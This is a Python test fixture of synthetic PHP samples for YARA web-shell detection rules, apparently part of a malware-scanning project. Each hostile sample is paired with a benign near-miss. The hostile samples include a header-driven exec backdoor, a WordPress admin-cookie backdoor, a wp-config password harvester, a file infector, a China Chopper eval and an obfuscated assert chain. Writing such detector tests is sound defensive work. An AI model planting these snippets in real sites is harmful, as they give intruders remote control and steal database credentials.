"""Must-hit / near-miss samples for issue-4h changes in filemanager.yar and evasion.yar.

Small synthetic PHP written for the tests; no corpus excerpts. The near-misses are the
legitimate look-alikes: a plugin installer that unpacks an upload into a fixed directory, and a
webhook that checks a signature header and runs a fixed deploy command.
"""

from __future__ import annotations


def php(body: str) -> bytes:
    """A PHP file around `body`."""
    return ("<?php\n" + body + "\n").encode()


EXTRACT = php(
    "$zip = new ZipArchive;\n"
    "if (isset($_FILES['z'])) { $zip->open($_FILES['z']['tmp_name']);"
    " $zip->extractTo($_POST['to']); $zip->close(); }"
)
EXTRACT_VAR = php(
    "$dest = isset($_GET['dest']) ? $_GET['dest'] : getcwd();\n"
    "$zip = new ZipArchive; $zip->open($_FILES['pack']['tmp_name']); $zip->extractTo($dest);"
)
# Near-miss: a plugin installer unpacks the upload into its own fixed directory.
EXTRACT_NEAR = php(
    "$slug = preg_replace('/[^a-z0-9-]/', '', $_POST['slug']);\n"
    "$zip = new ZipArchive; $zip->open($_FILES['plugin']['tmp_name']);"
    " $zip->extractTo(__DIR__ . '/plugins/');"
)

HEADER_EXEC = php(
    "$u = $_SERVER['HTTP_USER_AGENT'];\n"
    "if (strpos($u, 'zz9') === 0) { exec(base64_decode(substr($u, 3)), $r); echo implode(\"\\n\", $r); }"
)
# Near-miss: a deploy webhook checks a header and runs a fixed command.
HEADER_EXEC_NEAR = php(
    "$sig = $_SERVER['HTTP_X_HUB_SIGNATURE'];\n"
    "if (hash_equals('sha1=' . hash_hmac('sha1', $body, $key), $sig)) { exec('git pull', $out); }"
)

CASES: list[tuple[str, bytes, bool]] = [
    ("SPAMGEAR_SHELLUI_ArchiveExtractToInputPath", EXTRACT, True),
    ("SPAMGEAR_SHELLUI_ArchiveExtractToInputPath", EXTRACT_VAR, True),
    ("SPAMGEAR_SHELLUI_ArchiveExtractToInputPath", EXTRACT_NEAR, False),
    ("SPAMGEAR_EVASION_HeaderToSinkTiny", HEADER_EXEC, True),
    ("SPAMGEAR_EVASION_HeaderToSinkTiny", HEADER_EXEC_NEAR, False),
]

INI_PREPEND = (
    b'; site settings\nmemory_limit = 256M\nauto_prepend_file = "/home/u/public_html/images/logo.jpg"\n'
)
# Near-miss: a WAF bootstrap prepended the documented way (a .php file).
INI_PREPEND_NEAR = b"; Wordfence WAF\nauto_prepend_file = '/home/u/public_html/wordfence-waf.php'\n"

WP_COOKIE = php(
    "add_action('init', function () {\n"
    "  if (isset($_COOKIE['k']) && md5($_COOKIE['k']) == 'c4ca4238a0b923820dcc509a6f75849b') {\n"
    "    $u = get_users(array('role' => 'administrator'));"
    " wp_set_auth_cookie($u[0]->ID); wp_redirect(admin_url()); exit;\n"
    "  }\n});"
)
# Near-miss: a user-switching helper that checks the nonce and the capability first.
WP_COOKIE_NEAR = php(
    "if (isset($_GET['switch_to']) && current_user_can('edit_users')) {\n"
    "  check_admin_referer('switch_' . $_GET['switch_to']);\n"
    "  $u = get_users(array('role' => 'administrator')); wp_set_auth_cookie((int) $_GET['switch_to']);\n}"
)

HARVEST = php(
    "foreach (glob($_SERVER['DOCUMENT_ROOT'] . '/../*/public_html/wp-config.php') as $cfg) {\n"
    "  preg_match(\"/DB_PASSWORD',\\s*'(.*?)'/\", file_get_contents($cfg), $m); echo $cfg . ' ' . $m[1];\n}"
)
# Near-miss: a multisite helper that reads its own wp-config.php.
HARVEST_NEAR = php(
    "$cfg = file_get_contents(ABSPATH . 'wp-config.php');\n"
    "if (strpos($cfg, 'DB_PASSWORD') === false) { echo 'config incomplete'; }"
)

INFECTOR = php(
    "$path = $_POST['p'];\n$code = stripslashes($_POST['c']);\n"
    "foreach (glob($path . '/*.php') as $f) {"
    " $o = file_get_contents($f); file_put_contents($f, $code . $o); }"
)
# Near-miss: a build step that prepends a fixed licence header (no request input).
INFECTOR_NEAR = php(
    "$header = file_get_contents(__DIR__ . '/LICENSE.txt');\n"
    "foreach (glob(__DIR__ . '/src/*.php') as $f) {"
    " $o = file_get_contents($f); file_put_contents($f, $header . $o); }"
)

CASES += [
    ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", INI_PREPEND, True),
    ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", INI_PREPEND_NEAR, False),
    ("SPAMGEAR_TOOLKIT_WpAuthCookieBackdoor", WP_COOKIE, True),
    ("SPAMGEAR_TOOLKIT_WpAuthCookieBackdoor", WP_COOKIE_NEAR, False),
    ("SPAMGEAR_TOOLKIT_ConfigHarvester", HARVEST, True),
    ("SPAMGEAR_TOOLKIT_ConfigHarvester", HARVEST_NEAR, False),
    ("SPAMGEAR_SHELL_InputDrivenInfector", INFECTOR, True),
    ("SPAMGEAR_SHELL_InputDrivenInfector", INFECTOR_NEAR, False),
]

NESTED = php(
    "$a = 'as' . 'sert'; $b = 'gzin' . 'flate'; $c = 'base64' . '_decode';\n"
    "@$a(\n@$b(\n@$c(\n'S0lNTEs='\n)));"
)
# Near-miss: a pipeline of callables applied one after another, not nested in one call.
NESTED_NEAR = php("$trim = 'trim'; $lower = 'strtolower';\n$v = @$trim($input);\n$v = $lower($v);\necho $v;")

CASES += [
    ("SPAMGEAR_EVASION_NestedVariableCallsSilenced", NESTED, True),
    ("SPAMGEAR_EVASION_NestedVariableCallsSilenced", NESTED_NEAR, False),
]

CHOPPER_E = b"<?php if (isset($_POST['v'])) { preg_replace('/./\\x65', @$_POST['v'], '.'); } ?>"
# Near-miss: an id sanitised with preg_replace before use (GOsa's graph loader shape).
CHOPPER_E_NEAR = b"<?php if (!isset($_GET['id'])) return; $id = preg_replace('/[^0-9]/', '', $_GET['id']); ?>"

# Near-miss for CommandFileManager: a monitoring library with exec, file ops and probes but no form.
CFM_LIBRARY_NEAR = php(
    "function poll($cmd) { return shell_exec($cmd); }\n"
    "function clean($d) { foreach (scandir($d) as $f) { unlink($d . '/' . $f); } rename($d, $d . '.old');"
    " chmod($d . '.old', 0700); }\n"
    "function who() { return get_current_user() . ini_get('disable_functions') . ini_get('safe_mode'); }\n"
    "$theme = $_COOKIE['theme'] ?? 'classic';"
)
CFM_CONSOLE = php(
    "echo '<form method=post><input name=c></form>';\n"
    "if (isset($_POST['c'])) { echo shell_exec($_POST['c']); }\n"
    "foreach (scandir('.') as $f) echo $f; if (isset($_GET['rm'])) unlink($_GET['rm']);"
    " if (isset($_GET['mv'])) rename($_GET['mv'], $_GET['to']);\n"
    "echo php_uname() . ini_get('disable_functions') . (is_writable('.') ? ' rw' : ' ro');"
)

CASES += [
    ("SPAMGEAR_FAMILY_ChinaChopper", CHOPPER_E, True),
    ("SPAMGEAR_FAMILY_ChinaChopper", CHOPPER_E_NEAR, False),
    ("SPAMGEAR_SHELLUI_CommandFileManager", CFM_CONSOLE, True),
    ("SPAMGEAR_SHELLUI_CommandFileManager", CFM_LIBRARY_NEAR, False),
]
